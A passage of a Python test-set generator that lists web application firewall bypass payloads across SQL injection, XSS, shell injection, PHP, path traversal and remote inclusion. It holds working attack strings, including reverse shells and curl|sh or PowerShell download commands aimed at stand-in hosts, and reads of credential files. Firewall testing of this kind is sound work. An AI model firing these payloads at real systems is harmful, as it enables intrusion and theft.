"""Blind examples of WAF bypasses against a CRS-style engine at paranoia level 1, in every family, as published
WAF-bypass research writes them: each payload is shaped to slip past the transformations such engines apply
(URL-decode, lowercase, HTML-entity decode, comment removal, whitespace compression, command-line normalisation)
while the back end's own parser (the database, the browser, the shell, PHP, Log4j, the template engine) still
runs it. The benign half carries the same words and punctuation as people type them.

Families and sub-families (one sub per technique x family):
- sqli: keyword-split (inline and version comments, comment-newline), alt-whitespace (VT, FF, NBSP, tabs, CR,
  parentheses), operator-synonym (|| && DIV LIKE RLIKE REGEXP <=> BETWEEN IN XOR), function-synonym (MID, SUBSTR,
  ORD, CONCAT_WS, CHR, error-based functions), numeric-trick (1e0union, .1union, \\N, 0x, x'', b''), quote-alt
  (backticks, N'', q'[]', $$, E'', U&'', multibyte), json (JSON operators and functions), stacked, time-blind.
- xss: tag-parsing, rare-tag, rare-event, js-uri, no-parens, unicode-escape, constructor-chain, dom-clobbering,
  case-null.
- rce: quote-splice, ifs, brace-expansion, wildcard, var-slice, subshell, newline-sep, encoded-pipe,
  windows-caret, windows-env, powershell.
- php: variable-function, string-build, backtick, alt-tag, wrapper, serialized, callback.
- lfi: plain-traversal, encoded-traversal, double-encoding, overlong-utf8, backslash, nested-strip, semicolon,
  null-trailing, proc-self, windows-unc, file-scheme, absolute.
- rfi: url-trailing, ip-encoding, scheme, at-confusion; generic ssrf: ssrf-ip-encoding, ssrf-dns-internal,
  ssrf-at-hash, ssrf-scheme, ssrf-cloud-metadata.
- java: log4shell-nesting, log4shell-exfil, ognl, el-spel, deser-marker.
- generic: node-constructor, node-require, node-serialize, proto-pollution (query brackets, JSON, encoded,
  gadgets), ssti-python, ssti-php, ssti-java, ssti-js, ssti-ruby-dotnet.

Placements: each payload goes into two of: query, form (admin search with csrf_token, /oauth/token, /api/users,
/index.php), json, json-unicode (\\u00xx escapes of key characters), json-charset (application/json with a
charset), cookie, header:User-Agent, header:Referer, header:X-Forwarded-For, another header (X-Api-Version,
X-Client-Note, X-Original-Query, X-Requested-By), multipart-field, multipart-filename, multipart-odd-boundary
(quoted, long, one-character and punctuated boundaries), xml (CDATA or escaped), path, param-name, hpp (the
payload split over two parameters of the same name) and text-plain (a form sent as text/plain), rotating, with
what cannot carry a payload skipped (no CR, LF or NUL in headers, no dot segments in paths). Payloads already
URL-encoded as sent (the encoding is the trick) go only where a back end URL-decodes them. Paths: our routes
(/api/users, /api/users/42, /admin/users/search, /oauth/token) and a few non-routes (/, /index.php, /search).

Authorship and independence: written for this repository from general knowledge of each family, of how rule
engines and back-end parsers differ, and of the set's title alone; no WAF rule, engine code, ruleset regression
test, other blind set or public payload list was read. Measured once on unchanged code; the payloads were not
changed after the measurement. Deterministic: no clock, no randomness. Same record schema as family_gen.py.
"""

from __future__ import annotations

import base64
import gzip
import json
import struct
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import bio_request, chat_and_bio, link_requests, prose_request

NAME = "fortysixth"


class Wire(str):
    """A payload already URL-encoded as it travels (the encoding is the trick): sent without further encoding,
    and only where a back end URL-decodes it."""

    __slots__ = ()


def _ps(command: str) -> str:
    """PowerShell's -EncodedCommand form of `command` (base64 of UTF-16LE)."""
    return base64.b64encode(command.encode("utf-16-le")).decode()


def _java_stream(class_name: str) -> bytes:
    """The start of a Java serialization stream holding an object of `class_name`."""
    name = class_name.encode()
    return b"\xac\xed\x00\x05\x73\x72" + struct.pack(">H", len(name)) + name + b"\x00" * 7 + b"\x01\x02\x00\x00\x78\x70"


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


SER_USER = 'O:4:"User":1:{s:5:"admin";b:1;}'

SQLI: dict[str, list[str]] = {
    "sqli-keyword-split": [
        "1' /*!UNION*/ /*!SELECT*/ user,authentication_string FROM mysql.user-- -",
        "-1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2,group_concat(table_name) from information_schema.tables-- -",
        "1'/**/UNION/**/SELECT/**/NULL,@@version,NULL#",
        "admin'/**/or/**/'1'='1'/*",
        "1 /*!12345union*//*!12345all*//*!12345select*/ 1,database(),3",
        "1'-- foo\nUNION SELECT password,2 FROM users-- -",
        "1'#\nunion\n#\nselect 1,2,3#",
        "x' /*!UnIoN*/ ALL /*!SeLeCt*/ table_name,2 FROM information_schema.tables WHERE table_schema=database()-- -",
        "0'/*!00000union*//*!00000select*/ concat(username,0x3a,password),2 from users#",
        "1' /*foo*/AnD/*bar*/ (SeLeCt/**/1/**/FrOm/**/users/**/LiMiT/**/1)=1#",
        "-5 union/*--*/select/*--*/1,load_file(0x2f6574632f706173737764)",
        "1'--\x0b\nor 1=1-- -",
    ],
    "sqli-alt-whitespace": [
        "1'\x0bunion\x0bselect\x0b1,2,3--\x0b-",
        "1'\tUNION\tSELECT\tuser(),2#",
        "1'\nOR\n'a'='a",
        "1'\rUNION\rSELECT\r@@version,2--\r-",
        "1'union(select(1),(2),(3))#",
        "1'and(select(1)from(select(sleep(5)))a)#",
        "-1'union(select(group_concat(column_name))from(information_schema.columns)where(table_name='users'))#",
        Wire("1'%0bunion%0bselect%0b1,2--%0b-"),
        Wire("1'%a0union%a0select%a0user(),2#"),
        Wire("1%0cOR%0c1=1"),
        Wire("1'+union+all+select+null,version()--+-"),
        "'\x0cUNION\x0cALL\x0cSELECT\x0cNULL,table_name\x0cFROM\x0cinformation_schema.tables--\x0c",
        "1'\xa0or\xa01=1#",
        "1'\t\x0b\x0c\nunion\r\n\tselect\x0cpassword\x0bfrom\tusers#",
    ],
    "sqli-operator-synonym": [
        "' || '1'='1",
        "admin' || 1#",
        "1' && 1=1-- -",
        "' or 2 DIV 2 #",
        "' or 'a' like 'a",
        "' or username rlike '^adm' #",
        "' or password regexp '^a' and username='admin'#",
        "1' or 1<=>1#",
        "' or 2 between 1 and 3-- -",
        "' or 1 in (1)#",
        "1' XOR 1=1#",
        "'or''='",
        "1' and (select substr(password,1,1) from users limit 1) between 'a' and 'm'#",
        "' or id in (select id from users where is_admin)#",
        "' or 1 rlike (select (case when (1=1) then 1 else 0x28 end))-- -",
        "1' and 3&1-- -",
        "'=0-- -",
    ],
    "sqli-function-synonym": [
        "1' and mid(version(),1,1)='8'#",
        "1' and substr((select password from users limit 1),1,1)='a'#",
        "1' and substring(user() from 1 for 1)='r'#",
        "1' and ascii(substring(database(),1,1))>100#",
        "1' union select concat_ws(0x3a,username,password),2 from users#",
        "1' union select group_concat(username separator 0x2c),2 from users#",
        "' union select char(97,100,109,105,110),2#",
        "' and 1=(select chr(65)||chr(66))--",
        "1' AND unicode(substring(db_name(),1,1))>64--",
        "'||(select utl_inaddr.get_host_name((select user from dual)) from dual)||'",
        "1' and 1=convert(int,(select top 1 name from sysobjects))--",
        "1' and extractvalue(0x0a,concat(0x0a,(select database())))#",
        "1' and updatexml(1,concat(0x7e,(select user()),0x7e),1)#",
        "1' and exp(~(select * from (select user())a))#",
        "1' and gtid_subset(concat(0x7e,(select user())),1)#",
        "1' and cast((select password from users limit 1) as int)=1--",
    ],
    "sqli-numeric-trick": [
        "1e0union select 1,2,3",
        ".1union select @@version,2",
        "1.0union select null,user()",
        "\\Nunion select user(),2-- -",
        "' or username=0x61646d696e#",
        "' or username=x'61646d696e'#",
        "' or username=b'0110000101100100011011010110100101101110'#",
        "' union select 0x3c3f7068702073797374656d28245f4745545b635d293b203f3e,2 into outfile '/var/www/html/s.php'#",
        "' or 0b1#",
        "1'and(0)union(select(1),(user()))#",
        "9e0union(select(group_concat(schema_name))from(information_schema.schemata))",
    ],
    "sqli-quote-alt": [
        "' union select `password`,2 from `users`#",
        "' or N'1'=N'1",
        "'; select * from users where name = q'[admin]'--",
        "' union select $$admin$$,2--",
        r"' or E'\x61'='a'--",
        "' union select $tag$secret$tag$,2--",
        Wire("%bf%27 or 1=1-- -"),
        "admin\" or \"1\"=\"1",
        "') or ('1'='1",
        "\")) or ((\"1\"=\"1",
        r"' or U&'\0061'='a'--",
        "x' union select concat(char(39),user(),char(39)),2#",
        "admin'-- -",
        "1\\' or 1=1#",
    ],
    "sqli-json": [
        "' or json_extract('{\"id\": 14}', '$.id') = 14 union select password,2 from users #",
        "' or '{\"a\":2}'::jsonb @> '{\"a\":2}'::jsonb --",
        "' or '{\"b\":2}'::jsonb <@ '{\"b\":2,\"c\":3}' --",
        "' or '{\"a\":1}'::jsonb ? 'a' --",
        "' or json_depth('{}') != 2 #",
        "' or '{\"a\":2}' -> '$.a' <= '3' --",
        "' or json_contains('[1,2]','1')#",
        "' union select json_arrayagg(concat_ws(0x3a,username,password)),2 from users#",
        "' union select json_objectagg(username,password),2 from users#",
        "' or json_valid(0x7b7d) #",
        "' and (select json_agg(t) from users t)::text like '%admin%' --",
        "' or json_length('[1]')=1 and (select 1 from users where username='admin' and password like 'a%')#",
        "1' and json_keys((select convert((select password from users limit 1) using utf8)))#",
    ],
    "sqli-stacked": [
        "1; drop table users--",
        "1';\nINSERT INTO users(username,is_admin) VALUES('eve',1);--",
        "1'; exec master..xp_cmdshell 'ping 203.0.113.5'--",
        "1';EXEC('xp_'+'cmdshell ''whoami''')--",
        "1';DECLARE @q varchar(99);SET @q=0x77616974666f722064656c61792027303a303a3527;EXEC(@q)--",
        "1'; update users set role='admin' where name='eve'; --",
        "1'\n;\nCOPY (SELECT '') TO PROGRAM 'curl attacker.example|sh'--",
        "1');CREATE TABLE t(x text);COPY t FROM PROGRAM 'id';--",
        "1'; SET @s=CONCAT('SEL','ECT 1');PREPARE st FROM @s;EXECUTE st;#",
        "1'; ATTACH DATABASE '/var/www/lol.php' AS lol; CREATE TABLE lol.pwn (d text); "
        "INSERT INTO lol.pwn (d) VALUES ('<?php system($_GET[c]); ?>');--",
        "1'/**/;/**/DROP/**/TABLE/**/sessions;#",
        "1'\x0b;\x0bdelete\x0bfrom\x0baudit_log#",
        "1';grant all privileges on *.* to 'eve'@'%'#",
    ],
    "sqli-time-blind": [
        "1' and sleep(5)#",
        "1' and benchmark(10000000,md5(1))#",
        "1' and (select * from (select(sleep(5)))a)-- -",
        "1';waitfor delay '0:0:5'--",
        "1' and 1=(select 1 from pg_sleep(5))--",
        "1'||pg_sleep(5)--",
        "1' and 1=(select dbms_pipe.receive_message(('a'),10) from dual)--",
        "1' and 1=like('ABCDEFG',upper(hex(randomblob(500000000/2))))--",
        "1' and if(ascii(substr(user(),1,1))>100,sleep(3),0)#",
        "1';select case when (1=1) then pg_sleep(5) else pg_sleep(0) end--",
        "1' and (select count(*) from information_schema.columns a, information_schema.columns b, "
        "information_schema.columns c)>0#",
        "1' rlike sleep(3)#",
        "'-sleep(5)-'",
        "1';DECLARE @x char(9);SET @x=0x303a303a35;WAITFOR DELAY @x--",
    ],
}

XSS: dict[str, list[str]] = {
    "xss-tag-parsing": [
        "<svg/onload=alert(1)>",
        "<img/src/onerror=alert(document.domain)>",
        "<body\nonload=alert(1)>",
        "<img\nsrc=x\nonerror\n=\nalert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<iframe/src=\"data:text/html,<script>alert(1)</script>\">",
        "\"><svg onload=confirm(1)>",
        "'><img src=x onerror=prompt(1)>",
        "<svg onload=alert(1)//",
        "<img src=x onerror\x0c=alert(1)>",
        "<svg\x0conload=alert(1)>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script src=//attacker.example/x.js></script>",
        "<img src=1 onerror=\"eval(atob('YWxlcnQoMSk='))\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
    ],
    "xss-rare-tag": [
        "<details open ontoggle=alert(1)>",
        "<details/open/ontoggle=\"alert`1`\">",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
        "<video><source onerror=alert(1)></video>",
        "<audio src onloadstart=alert(1)>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg><discard onbegin=alert(1)>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<svg><set onbegin=alert(1) attributename=x to=1>",
    ],
    "xss-rare-event": [
        "<div onpointerover=alert(1)>hover</div>",
        "<input onbeforeinput=alert(1)>",
        "<a onfocusin=alert(1) tabindex=1 id=x>x</a>",
        "<style>@keyframes x{}</style><div style=animation-name:x onanimationstart=alert(1)>",
        "<div style=transition:color 1s onTransitionEnd=alert(1)>",
        "<body onhashchange=alert(1)><a href=#x>x</a>",
        "<input onsearch=alert(1) type=search>",
        "<body onpageshow=alert(1)>",
        "<form onformdata=alert(1)><button>x</button></form>",
        "<div oncopy=alert(1)>copy me</div>",
        "<b oncontextmenu=alert(1)>right click</b>",
        "<x ondragstart=alert(1) draggable=true>drag</x>",
        "<input onselect=alert(1) value=x autofocus>",
        "<link rel=stylesheet href=x onerror=alert(1)>",
    ],
    "xss-js-uri": [
        "javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "javascript&colon;alert&lpar;1&rpar;",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"javascript&#58;alert(document.cookie)\">x</a>",
        "\x01javascript:alert(1)",
        " javascript:alert(1)",
        "javascript://%0aalert(1)",
        "data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "javascript:fetch('//attacker.example/?c='+document.cookie)",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>",
        "<a href=\"javascript&NewLine;:alert(1)\">x</a>",
    ],
    "xss-no-parens": [
        "<img src=x onerror=alert`1`>",
        "<img src=x onerror=\"onerror=alert;throw 1\">",
        "<svg onload=onerror=eval;throw'=alert\\x281\\x29'>",
        "<img src=x onerror=eval.call`${'alert\\x281\\x29'}`>",
        "<svg onload=setTimeout`alert\\u00281\\u0029`>",
        "<svg onload=[1].find(alert)>",
        "<body onload=top[`al`+`ert`]`1`>",
        "<img src=x onerror=new Function`alert\\x281\\x29```>",
        "<svg onload=location='javas'+'cript:al'+'ert%281%29'>",
        "'-alert`1`-'",
        "\";alert`1`;//",
        "</script><script>alert`1`</script>",
    ],
    "xss-unicode-escape": [
        "<script>\\u0061lert(1)</script>",
        "<img src=x onerror=\\u0061\\u006cert(1)>",
        "<svg onload=\\u0065val('al'+'ert(1)')>",
        "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
        "<img src=x onerror=al&#101;rt&#40;1&#41;>",
        "<svg><script>&#97;lert(1)</script></svg>",
        "<script>eval('\\x61\\x6c\\x65\\x72\\x74(1)')</script>",
        "<img src=x onerror=\"window['\\x61lert'](1)\">",
        "<img src=x onerror=top[atob('YWxlcnQ=')](1)>",
        "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        Wire("%u003cscript%u003ealert(1)%u003c/script%u003e"),
    ],
    "xss-constructor-chain": [
        "<img src=x onerror=[].constructor.constructor('alert(1)')()>",
        "<svg onload=''.constructor.constructor`alert\\x281\\x29```>",
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "<div ng-app>{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}</div>",
        "<img src=x onerror=(()=>{}).constructor('alert(1)')()>",
        "<img src=x onerror=globalThis[['al','ert'].join('')](1)>",
        "<img src=x onerror=Object.getPrototypeOf(async()=>{}).constructor('alert(1)')()>",
        "javascript:[]['constructor']['constructor']('alert(1)')()",
        "<img src=x onerror=window[`ev`+`al`](`aler`+`t(1)`)>",
    ],
    "xss-dom-clobbering": [
        "<a id=cfg></a><a id=cfg name=scriptUrl href=//attacker.example/x.js></a>",
        "<form name=getElementById></form>",
        "<img name=cookie>",
        "<form id=x><input id=attributes></form>",
        "<iframe name=settings srcdoc=\"<a id=url href=//attacker.example/x.js></a>\"></iframe>",
        "<a id=defaultAvatar></a><a id=defaultAvatar name=avatar href=\"cid:&quot;onerror=alert(1)//\"></a>",
        "<form id=config><input name=redirect value=javascript:alert(1)></form>",
        "<img id=analytics name=src src=//attacker.example/collect>",
    ],
    "xss-case-null": [
        "<ScRiPt>alert(1)</sCrIpT>",
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        Wire("%00%3Cscript%3Ealert(1)%3C/script%3E"),
        "<SVG ONLOAD=&#97&#108&#101&#114&#116(1)>",
        "<sCrIpT sRc=//attacker.example/a.js></ScRiPt>",
        "\x00\"><script>alert(1)</script>",
        "<a href=\"java\x00script:alert(1)\">x</a>",
        "<DeTaIlS OpEn OnToGgLe=confirm(1)>",
    ],
}

RCE: dict[str, list[str]] = {
    "rce-quote-splice": [
        ";c''at /e''tc/pa''ss''wd",
        "|c\\at /etc/pas\\swd",
        "; w\"h\"o\"a\"m\"i",
        "$(w'h'o'am'i)",
        "| n''c -e /bin/sh 203.0.113.5 4444",
        ";  wg\"\"et -q -O- http://attacker.example/x|s\"\"h",
        "; cu''rl http://attacker.example/`who''ami`",
        ";\\u\\n\\a\\m\\e -a",
        "; ca$@t /et$@c/pas$@swd",
        ";c$()at /etc/passwd",
        "; c${u}at /e${u}tc/pas${u}swd",
        "; p'y'thon3 -c 'import os;os.system(\"id\")'",
    ],
    "rce-ifs": [
        ";cat$IFS/etc/passwd",
        ";cat${IFS}/etc/shadow",
        "|ls${IFS}-la${IFS}/",
        "`cat${IFS%??}/etc/passwd`",
        "; IFS=,;cmd=cat,/etc/passwd;$cmd",
        ";curl${IFS}-s${IFS}attacker.example/s|bash",
        "; X=$'\\x20';cat${X}/etc/passwd",
        ";cat</etc/passwd",
        ";sh</dev/tcp/203.0.113.5/4444",
        ";wget\t-O\t/tmp/x\thttp://attacker.example/x",
    ],
    "rce-brace-expansion": [
        "{cat,/etc/passwd}",
        ";{wget,-qO-,http://attacker.example/a}|sh",
        "|{ls,-la,/}",
        ";{nc,-e,/bin/sh,203.0.113.5,4444}",
        ";{curl,http://attacker.example/$(whoami)}",
        ";{cat,/etc/{passwd,shadow}}",
        "&&{bash,-c,'id>/tmp/x'}",
    ],
    "rce-wildcard": [
        ";/???/c?t /???/p??s??",
        ";/bin/c*t /etc/pass*",
        "|/???/n? -e /???/b??h 203.0.113.5 4444",
        ";/u??/b??/who?mi",
        ";/???/b??h -c 'id'",
        ";cat /et[c]/pas[s]wd",
        "; /bin/[c]at /etc/[p]asswd",
        "&&/???/?ge? attacker.example/x -O /tmp/x",
    ],
    "rce-var-slice": [
        ";cat ${PATH:0:1}etc${PATH:0:1}passwd",
        ";${HOME:0:1}bin${HOME:0:1}sh -c id",
        "; ${SHELL:0:1}usr${SHELL:0:1}bin${SHELL:0:1}id",
        "; a=c;b=at;$a$b /etc/passwd",
        "; x=who;y=ami;$x$y",
        "; $(rev<<<'imaohw')",
        "; $(tr a-z n-za-m<<<'jubnzv')",
        ";c${PATH:99}at /etc/passwd",
    ],
    "rce-subshell": [
        "$(id)",
        "`whoami`",
        "$(curl -s attacker.example/x|sh)",
        "x$(sleep 5)",
        "\"; $(nslookup `whoami`.attacker.example) \"",
        "$(< /etc/passwd)",
        "a=`id`;curl attacker.example/$a",
        "';`sleep 5`;'",
    ],
    "rce-newline-sep": [
        "127.0.0.1\nid",
        Wire("x%0aid"),
        Wire("foo%0d%0awhoami"),
        "1.1.1.1\n/bin/bash -c 'sh -i >& /dev/tcp/203.0.113.5/4444 0>&1'",
        "x\r\nping -c 1 attacker.example",
        Wire("test%0a%0dcurl%20attacker.example/x|sh"),
        Wire("x%0Auname%09-a"),
        "example.com\nwget attacker.example/s -O /tmp/s",
    ],
    "rce-encoded-pipe": [
        ";echo aWQ=|base64 -d|sh",
        ";echo Y2F0IC9ldGMvcGFzc3dk|base64 --decode|bash",
        ";echo 6964|xxd -r -p|sh",
        ";printf '\\151\\144'|sh",
        ";printf '\\x77\\x68\\x6f\\x61\\x6d\\x69'|bash",
        ";$(printf '\\x63\\x61\\x74') /etc/passwd",
        ";bash<<<$(base64 -d<<<aWQ=)",
        ";echo 'jubnzv'|tr a-z n-za-m|sh",
        ";python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\"",
        ";perl -e 'system(pack(q(H*),q(6964)))'",
        ";awk 'BEGIN{system(\"id\")}'",
    ],
    "rce-windows-caret": [
        "& w^h^o^a^m^i",
        "| c^m^d /c dir",
        "& n^e^t u^s^e^r",
        "&& who\"\"ami",
        "| c\"md\" /c \"type C:\\Windows\\win.ini\"",
        "& cmd.exe /v:on /c \"set x=who&& set y=ami&& call !x!!y!\"",
        "& cmd /c,whoami",
        "& cmd;/c;whoami",
        "& certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe",
        "| bitsadmin /transfer j http://attacker.example/x.exe C:\\Users\\Public\\x.exe",
        "& regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll",
    ],
    "rce-windows-env": [
        "& %COMSPEC:~-7,3% /c whoami",
        "& cmd%ProgramFiles:~10,1%/c%ProgramFiles:~10,1%whoami",
        "& set x=whoami&& call %x%",
        "& %windir:~0,1%:\\Windows\\System32\\whoami.exe",
        "& cmd /c \"set c=ta&&set d=sklist&&call %c%%d%\"",
        "& %ComSpec% /c type %USERPROFILE%\\.aws\\credentials",
        "| %COMSPEC:~0,1%%COMSPEC:~1,1%\\Windows\\System32\\net.exe user",
    ],
    "rce-powershell": [
        "; powershell -enc " + _ps("whoami"),
        "| powershell -nop -w hidden -e " + _ps("IEX (iwr http://attacker.example/a)"),
        "& powershell -c \"iex(New-Object Net.WebClient).DownloadString('http://attacker.example/a')\"",
        "& pwsh -c \"&('i'+'ex') ('who'+'ami')\"",
        "& powershell -c \"iex ([char]119+[char]104+[char]111+[char]97+[char]109+[char]105)\"",
        "& powershell -c \"sal x iex; x 'whoami'\"",
        "& powershell -EncodedCommand " + _ps("Get-Content C:\\Windows\\win.ini"),
        "& powershell -c \"&(gcm *ke-e*) 'whoami'\"",
        "& powershell.exe -ExecutionPolicy Bypass -File \\\\attacker.example\\share\\a.ps1",
        "& powershell -c \"[scriptblock]::Create('whoami').Invoke()\"",
        "& powershell -c \"'imaohw'[-1..-6]-join''|iex\"",
    ],
}

PHP: dict[str, list[str]] = {
    "php-variable-function": [
        "<?php $f='system';$f('id');?>",
        "<?php $_GET['a']($_GET['b']);",
        "<?php ${'_'.'GET'}[0](${'_'.'GET'}[1]);",
        "<?php $x='as'.'sert';$x($_POST[0]);",
        "<?php $a='p'.'assthru';@$a($_REQUEST['c']);",
        "<?php $_=\"{\";$_=($_^\"<\").($_^\">;\").($_^\"/\");${'_'.$_}['_'](${'_'.$_}['__']);",
        "<?php $$x='system';$system('id');",
    ],
    "php-string-build": [
        "<?php ('sys'.'tem')('id');",
        "<?php (\"\\x73ystem\")('id');",
        "<?php $f=strrev('metsys');$f('id');",
        "<?php $f=str_rot13('flfgrz');$f('whoami');",
        "<?php $s=implode('',['sy','st','em']);$s('id');",
        "<?php $f=base64_decode('c3lzdGVt');$f('id');",
        "<?php $x=hex2bin('73797374656d');$x('uname -a');",
        "<?php (\"\\163\\171\\163\\164\\145\\155\")('id');",
    ],
    "php-backtick": [
        "<?=`$_GET[0]`?>",
        "<?php echo `ls -la`;",
        "<?php $o=`cat /etc/passwd`;echo $o;",
        "<?php print `{$_REQUEST['c']}`;",
    ],
    "php-alt-tag": [
        "<? system('id'); ?>",
        "<?= system($_GET['c']) ?>",
        "<script language=\"php\">system('id');</script>",
        "<% system('id'); %>",
        "<?PhP eVaL($_POST['z']);",
        "<?php\tsystem('id');",
        "<?php\r\npassthru('id');",
    ],
    "php-wrapper": [
        "PhP://FiLtEr/convert.base64-encode/resource=index.php",
        "php://filter/read=string.toupper|string.rot13/resource=config.php",
        "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
        "pHp://input",
        "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
        "DATA://text/plain,<?php system('id');?>",
        "phar://uploads/avatar.jpg/x",
        "zip://uploads/a.zip#shell.php",
        "expect://id",
        "php://filter/convert.base64-decode/resource=data:,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
        Wire("php%3a//filter/convert.base64-encode/resource=index.php"),
    ],
    "php-serialized": [
        'O:+4:"User":1:{s:5:"admin";b:1;}',
        'O:4:"User":+1:{s:5:"admin";b:1;}',
        'a:1:{i:0;O:+6:"Logger":1:{s:4:"file";s:10:"/tmp/x.php";}}',
        'C:+11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
        'O:4:"User" :1:{s:5:"admin";b:1;}',
        'O:+31:"GuzzleHttp\\Cookie\\FileCookieJar":1:{s:36:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";'
        's:11:"/tmp/sh.php";}',
        _b64(SER_USER.encode()),
        'a:2:{i:0;s:4:"safe";i:1;O:+7:"Monolog":1:{s:4:"path";s:15:"php://filter/x";}}',
    ],
    "php-callback": [
        "array_map('system',['id'])",
        "<?php usort($_GET,'assert');",
        "call_user_func($_GET['f'],$_GET['a'])",
        "array_filter([$_GET['c']],'system')",
        "register_shutdown_function('system','id')",
        "ob_start('system');echo 'id';ob_end_flush();",
        "(new ReflectionFunction('system'))->invoke('id');",
        "array_map('assert',array($_REQUEST['x']))",
        "preg_replace_callback('/.+/','passthru',$_GET['c'])",
    ],
}

LFI: dict[str, list[str]] = {
    "lfi-plain-traversal": [
        "../../../../etc/passwd",
        "../../../../../../etc/shadow",
        "/var/www/html/../../../etc/passwd",
        "../WEB-INF/web.xml",
        "../../../../home/app/.ssh/id_rsa",
    ],
    "lfi-encoded-traversal": [
        Wire("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        Wire("%2e%2e/%2e%2e/%2e%2e/etc/shadow"),
        Wire("..%2f..%2f..%2fetc%2fpasswd"),
        Wire(".%2e/.%2e/.%2e/etc/passwd"),
        Wire("/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
        Wire("/static/..%2f..%2f..%2fetc/passwd"),
        Wire("%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
        Wire("%2E%2E%2F%2E%2E%2Fproc%2Fself%2Fenviron"),
    ],
    "lfi-double-encoding": [
        Wire("%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        Wire("..%252f..%252f..%252fetc%252fpasswd"),
        Wire("..%255c..%255cboot.ini"),
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    ],
    "lfi-overlong-utf8": [
        Wire("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
        Wire("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        Wire("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
        Wire("..%e0%80%af..%e0%80%afetc/passwd"),
        Wire("%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd"),
        Wire("..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ],
    "lfi-backslash": [
        "..\\..\\..\\windows\\win.ini",
        Wire("..%5c..%5c..%5cwindows%5cwin.ini"),
        "..\\/..\\/..\\/etc/passwd",
    ],
    "lfi-nested-strip": [
        "....//....//....//etc/passwd",
        "..././..././..././etc/passwd",
        "....\\/....\\/etc/passwd",
        "....//....//....//proc/self/environ",
    ],
    "lfi-semicolon": [
        "..;/..;/..;/etc/passwd",
        "/..;/manager/html",
        "..;/WEB-INF/web.xml",
        "/api/..;/admin/..;/actuator/env",
    ],
    "lfi-null-trailing": [
        Wire("/etc/passwd%00.jpg"),
        "/etc/passwd\x00.png",
        Wire("../../../etc/passwd%00"),
        "/etc/passwd/.",
        "/etc/passwd/././././.",
        "../../../../etc/hosts......",
        "/./././././../../../etc/passwd",
    ],
    "lfi-proc-self": [
        "/proc/self/environ",
        "/proc/self/cmdline",
        "/proc/self/fd/0",
        "/proc/self/cwd/config/database.yml",
        "/proc/self/root/etc/passwd",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ],
    "lfi-windows-unc": [
        "C:\\Windows\\win.ini",
        "C:/Windows/System32/drivers/etc/hosts",
        "C:\\inetpub\\wwwroot\\web.config::$DATA",
        "\\\\attacker.example\\share\\x.php",
        "\\\\127.0.0.1\\c$\\windows\\win.ini",
        "\\\\?\\C:\\Windows\\win.ini",
    ],
    "lfi-file-scheme": [
        "file:///etc/passwd",
        "FILE:///etc/shadow",
        "file://localhost/etc/passwd",
        "file:///C:/Windows/win.ini",
        "fiLe:///proc/self/environ",
    ],
    "lfi-absolute": [
        "/etc/passwd",
        "/var/log/nginx/access.log",
        "/root/.bash_history",
        "/home/app/.aws/credentials",
    ],
}

RFI: dict[str, list[str]] = {
    "rfi-url-trailing": [
        "http://attacker.example/shell.txt?",
        "https://attacker.example/shell.txt#",
        Wire("http://attacker.example/shell.txt%00"),
